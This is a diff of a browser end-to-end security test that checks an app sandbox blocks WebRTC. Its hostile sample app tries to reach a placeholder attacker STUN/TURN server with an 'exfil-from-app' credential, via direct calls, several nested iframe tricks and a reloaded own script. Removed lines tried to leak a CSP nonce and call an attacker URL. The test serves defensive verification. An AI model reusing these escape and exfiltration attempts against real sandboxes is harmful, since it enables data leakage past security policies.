@@ -226,13 +226,19 @@ test("the app channel is its port: app messages posted to the embed's window, or
   expect((await eventsOf(page, "svc:event:error")).filter((e) => e.payload.context === "app")).toEqual([]);
 });
 
-// WebRTC is not governed by the policy: the runtime removes it before the app's code runs, and a
-// document the app makes in a nested frame (a fresh realm) runs no script without the nonce.
+// WebRTC is not governed by the policy: the runtime removes it before the app's code runs, a
+// document the app makes in a nested frame (a fresh realm) runs no script of its own, and the
+// app's own scripts, which it can load there, remove it first.
 const WEBRTC_APP = String.raw`<pre id="out">{}</pre>
 <script>
+  const CONFIG = { iceServers: [{ urls: "stun:__UDP_HOST__" }, { urls: "turn:__UDP_HOST__?transport=udp", username: "exfil-from-app", credential: "x" }] };
+  if (window.name === "nested") {
+    // This same script, loaded by the app in a nested frame of its own: a fresh window.
+    parent.postMessage("own-script-nested:" + typeof RTCPeerConnection + ":" + typeof webkitRTCPeerConnection, "*");
+    if (typeof RTCPeerConnection === "function") { const pc = new RTCPeerConnection(CONFIG); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o)); }
+  } else {
   const results = {};
   const note = (key, value) => { results[key] = value; document.getElementById("out").textContent = JSON.stringify(results); };
-  const CONFIG = { iceServers: [{ urls: "stun:__UDP_HOST__" }, { urls: "turn:__UDP_HOST__?transport=udp", username: "exfil-from-app", credential: "x" }] };
   async function attempt(key, get) {
     try {
       const RTC = get();
@@ -249,27 +255,24 @@ const WEBRTC_APP = String.raw`<pre id="out">{}</pre>
     "pc.createOffer().then((o) => pc.setLocalDescription(o)); parent.postMessage('nested-script-ran', '*');<\/script>" +
     "<img src=x onerror=\"parent.postMessage('nested-handler-ran', '*')\">";
   addEventListener("message", (e) => { if (typeof e.data === "string") note("message:" + e.data, true); });
-  // What would give the nonce away.
-  const leaks = [];
-  addEventListener("securitypolicyviolation", (e) => leaks.push("violation:" + e.originalPolicy));
+  const me = document.currentScript.src;
   (async () => {
-    leaks.push(document.documentElement.outerHTML, String(document.currentScript.nonce), String(document.currentScript.getAttribute("nonce")));
     await attempt("direct", () => window.RTCPeerConnection);
     await attempt("webkit", () => window.webkitRTCPeerConnection);
     await attempt("blankFrame", () => { const f = document.createElement("iframe"); document.body.appendChild(f); return f.contentWindow.RTCPeerConnection; });
     const srcdoc = document.createElement("iframe"); srcdoc.srcdoc = NESTED; document.body.appendChild(srcdoc);
     const js = document.createElement("iframe"); js.src = "javascript:parent.postMessage('nested-javascript-url-ran', '*')"; document.body.appendChild(js);
     const blob = document.createElement("iframe"); blob.src = URL.createObjectURL(new Blob([NESTED], { type: "text/html" })); document.body.appendChild(blob);
+    const own = document.createElement("iframe"); own.name = "nested"; own.srcdoc = '<script src="' + me + '"><\/script>'; document.body.appendChild(own);
     const script = document.createElement("script"); script.textContent = "window.postMessage('inserted-script-ran', '*')"; document.body.appendChild(script);
-    fetch("__ATTACKER__/violation").catch(() => {});
     await new Promise((r) => setTimeout(r, 2000));
-    note("leaks", leaks.join("\n"));
     note("finished", true);
     svc.loaded();
   })();
+  }
 </script>`;
 
-test("an app gets no WebRTC: not in its window, not from a nested document, and not the nonce that would run one", async ({ page }) => {
+test("an app gets no WebRTC: not in its window, not from a nested document, not from its own script loaded in one", async ({ page }) => {
   // The attacker's STUN/TURN server: a UDP socket on the attacker's port number.
   const port = Number(new URL(E2E.attackerUrl).port);
   const packets: number[] = [];
@@ -277,7 +280,7 @@ test("an app gets no WebRTC: not in its window, not from a nested document, and 
   udp.on("message", (m) => packets.push(m.length));
   await new Promise<void>((resolve) => udp.bind(port, "127.0.0.1", () => resolve()));
   try {
-    const html = WEBRTC_APP.replace(/__UDP_HOST__/g, `127.0.0.1:${port}`).replace(/__ATTACKER__/g, E2E.attackerUrl);
+    const html = WEBRTC_APP.replace(/__UDP_HOST__/g, `127.0.0.1:${port}`);
     const { publicId } = await createAppDashboard(page.request, "e2e-webrtc-app", { html });
     await openInHost(page, publicId);
     await waitForEvent(page, "svc:event:dashboard-loaded", { timeout: 30_000 });
@@ -287,13 +290,9 @@ test("an app gets no WebRTC: not in its window, not from a nested document, and 
     expect(results.direct).toBe("blocked:undefined");
     expect(results.webkit).toBe("blocked:undefined");
     expect(results.blankFrame).toMatch(/^blocked:/);
-    // No script ran in a nested document, nor one the app inserted.
-    expect(Object.keys(results).filter((k) => k.startsWith("message:"))).toEqual([]);
-    // The nonce never reached the app's code.
-    const srcdoc = (await page.frameLocator("#embed").getByTestId("app-frame").getAttribute("srcdoc"))!;
-    const nonce = /'nonce-([A-Za-z0-9_-]+)'/.exec(srcdoc)![1]!;
-    expect(results.leaks).toBeTruthy();
-    expect(results.leaks).not.toContain(nonce);
+    // The app's own script ran in the nested frame, without WebRTC; no other script ran there,
+    // nor one the app inserted.
+    expect(Object.keys(results).filter((k) => k.startsWith("message:"))).toEqual(["message:own-script-nested:undefined:undefined"]);
     await page.waitForTimeout(500);
     expect(packets).toEqual([]);
   } finally {
